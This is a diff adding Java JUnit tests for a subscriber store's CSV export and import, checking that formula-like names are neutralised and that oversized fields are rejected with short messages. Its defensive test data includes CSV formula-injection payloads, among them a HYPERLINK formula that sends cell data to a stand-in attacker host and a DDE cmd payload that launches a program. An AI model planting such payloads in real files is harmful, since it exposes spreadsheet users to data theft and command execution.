@@ -219,6 +219,83 @@ class SubscriberStoreIT {
   }
 
   @Test
+  void exportNeutralisesNamesThatSpreadsheetsRunAsFormulasAndImportGivesThemBack() {
+    List<String> names =
+        List.of(
+            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)",
+            "'=already quoted",
+            "O'Neil");
+    StringWriter out = new StringWriter();
+    try (SubscriberStore store = open(T0)) {
+      for (int i = 0; i < names.size(); i++) {
+        store.subscribe(
+            EmailAddress.parse("r" + i + "@example.org"),
+            names.get(i),
+            Consent.of(T0, "web", "v1"));
+      }
+      store.subscribe(EmailAddress.parse("-2+3@example.org"), "", Consent.of(T0, "web", "v1"));
+      SubscriberCsv.exportCsv(store, out);
+    }
+    List<String> lines = List.of(out.toString().split("\r\n"));
+    assertThat(lines.get(1)).startsWith("r0@example.org,\"'=HYPERLINK(");
+    assertThat(lines.get(2)).startsWith("r1@example.org,'+cmd|");
+    assertThat(lines.get(3)).startsWith("r2@example.org,'-2+3,");
+    assertThat(lines.get(4)).startsWith("r3@example.org,'@SUM(1+1),");
+    assertThat(lines.get(5)).startsWith("r4@example.org,''=already quoted,");
+    assertThat(lines.get(6)).startsWith("r5@example.org,O'Neil,");
+    assertThat(lines.get(7)).startsWith("'-2+3@example.org,,");
+    for (String line : lines.subList(1, lines.size())) {
+      for (String cell : line.split(",")) {
+        assertThat(cell.replaceFirst("^\"", "")).doesNotMatch("(?s)^[=+\\-@\t\r].*");
+      }
+    }
+    try (SubscriberStore copy =
+        SubscriberStore.open(dir.resolve("copy.db"), Clock.fixed(T0, ZoneOffset.UTC))) {
+      CsvImportReport report =
+          SubscriberCsv.importCsv(copy, new StringReader(out.toString()), "export.csv");
+      assertThat(report.rejected()).isEmpty();
+      assertThat(report.added()).isEqualTo(names.size() + 1);
+      for (int i = 0; i < names.size(); i++) {
+        assertThat(copy.find(EmailAddress.parse("r" + i + "@example.org")).orElseThrow().name())
+            .isEqualTo(names.get(i));
+      }
+      assertThat(copy.find(EmailAddress.parse("-2+3@example.org"))).isPresent();
+    }
+  }
+
+  @Test
+  void aHugeInvalidAddressIsQuotedAsAShortPrefixOnly() {
+    String huge = "x".repeat(10 * 1024 * 1024) + "@";
+    String csv =
+        "email,name,state\r\n"
+            + huge
+            + ",A,\r\nok@example.org,B,"
+            + "y".repeat(1_000_000)
+            + "\r\n"
+            + "z@example.org,C,active\r\n";
+    try (SubscriberStore store = open(T0)) {
+      CsvImportReport report = SubscriberCsv.importCsv(store, new StringReader(csv), "big.csv");
+      assertThat(report.added()).isEqualTo(1);
+      assertThat(report.rejected())
+          .extracting(CsvImportReport.RejectedLine::line)
+          .containsExactly(2, 3);
+      for (CsvImportReport.RejectedLine r : report.rejected()) {
+        assertThat(r.reason().length()).as(r.reason()).isLessThan(300);
+      }
+      assertThat(report.rejected().get(0).reason())
+          .startsWith("e-mail address 'xxxxxxxx")
+          .contains("... (10485761 characters)")
+          .contains("longer than 254");
+      assertThat(report.rejected().get(1).reason())
+          .contains("state 'yyyy")
+          .contains("(1000000 characters)");
+    }
+  }
+
+  @Test
   void exportedCsvReadsBackIntoAnEqualList() {
     StringWriter out = new StringWriter();
     try (SubscriberStore store = open(T0)) {
